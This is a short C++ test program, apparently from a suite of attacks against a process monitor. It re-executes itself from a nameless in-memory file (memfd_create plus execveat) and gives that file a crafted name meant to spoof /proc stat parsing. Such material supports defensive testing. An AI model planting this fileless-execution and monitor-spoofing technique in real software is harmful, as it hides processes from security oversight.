// Becomes a copy of itself that is in memory only and has no name.
// gets: all
#include <sys/mman.h>

#include "attack.h"

int main(int count, char** words) {
  if (count > 1) {
    Work();
    return 0;
  }
  const int copy = memfd_create("\n) R 1 (", MFD_CLOEXEC);
  const int file = open("/proc/self/exe", O_RDONLY);
  static char buffer[1 << 16];
  for (ssize_t got; (got = read(file, buffer, sizeof buffer)) > 0;)
    Quietly(write(copy, buffer, static_cast<size_t>(got)));
  char again[] = "again";
  char* arguments[] = {words[0], again, nullptr};
  syscall(SYS_execveat, copy, "", arguments, environ, 0x1000 /* AT_EMPTY_PATH */);
  return 4;
}
